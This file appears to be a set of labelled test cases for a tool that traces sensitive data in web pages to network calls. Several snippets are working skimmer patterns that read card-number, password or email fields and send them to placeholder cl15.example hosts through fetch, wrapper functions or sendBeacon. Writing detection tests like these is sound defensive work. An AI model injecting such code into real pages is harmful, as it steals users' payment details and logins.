// Natives of the page under names of its own, and senders that hand all of their arguments on.

//# natives-of-a-page-that-is-handed-in
// flow: card > gate.cl15.example via fetch
;(function (win, doc) {
  const field = doc.querySelector('input[autocomplete=cc-number]')
  field.addEventListener('change', function () {
    win.fetch('https://gate.cl15.example/i', { method: 'POST', body: win.btoa(JSON.stringify({ n: field.value })) })
  })
})(window, document)

//# question-to-a-page-that-is-handed-in
// no flow
;(function (win, doc) {
  const field = doc.querySelector('input[autocomplete=cc-number]')
  field.addEventListener('change', function () {
    win.fetch('https://gate.cl15.example/i', { method: 'POST', body: JSON.stringify({ odd: win.isNaN(field.value) }) })
  })
})(window, document)

//# sender-by-default-hands-all-on
// flow: password > api.cl15.example via fetch
class Client {
  constructor(base, send = (...given) => fetch(...given)) {
    this.base = base
    this.send = send
  }
  post(path, body) {
    return this.send(new URL(path, this.base), { method: 'POST', body: JSON.stringify(body) })
  }
}
const client = new Client('https://api.cl15.example')
document.querySelector('form').addEventListener('submit', () => {
  client.post('/login', { secret: document.querySelector('input[type=password]').value })
})

//# beacon-hands-all-on
// flow: email > beat.cl15.example via beacon
const beat = (...given) => navigator.sendBeacon(...given)
document.querySelector('#email').addEventListener('blur', (event) => {
  beat('https://beat.cl15.example/b', event.target.value)
})

//# the-first-is-for-the-sender-itself
// flow: email > rest.cl15.example via fetch
function named(label, ...rest) {
  console.debug(label)
  return fetch(...rest)
}
document.querySelector('#email').addEventListener('blur', (event) => {
  named('https://label.cl15.example/', 'https://rest.cl15.example/b', { method: 'POST', body: event.target.value })
})

//# hands-on-less-than-it-is-given
// no flow
const visit = (...given) => fetch(...given.slice(0, 1))
document.querySelector('#email').addEventListener('blur', (event) => {
  visit('https://visit.cl15.example/b', { method: 'POST', body: event.target.value })
})
